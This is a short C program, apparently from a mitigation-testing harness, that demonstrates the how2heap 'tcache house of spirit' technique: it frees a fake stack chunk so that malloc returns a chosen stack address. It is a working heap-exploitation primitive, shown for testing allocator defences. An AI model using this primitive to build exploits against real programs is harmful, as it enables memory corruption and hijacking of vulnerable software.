/* Technique: tcache house of spirit (how2heap tcache_house_of_spirit).

   Goal: malloc returns a chosen address (a fake chunk on the stack).

   How: a fake 0x40 chunk header is written on the stack and its user
   pointer is freed.  The tcache path of free only checks alignment and
   a sane size, so the stack chunk goes into the 0x40 tcache bin and the
   next malloc (0x38) returns it.  */
#include "attack.h"

int
main (void)
{
  attack_init ("tcache_house_of_spirit: free of a fake stack chunk into the tcache");
  _Alignas (16) size_t fake[12] = { 0 };
  malloc (1);			/* set up the heap and the tcache */
  fake[1] = 0x40;
  say ("fake chunk %p", fake);
  free (&fake[2]);
  void *p = malloc (0x38);
  say ("malloc (0x38) = %p", p);
  if (p == (void *) &fake[2])
    reached ("malloc returned the stack address %p", p);
  no_effect ("malloc returned %p, not %p", p, &fake[2]);
}
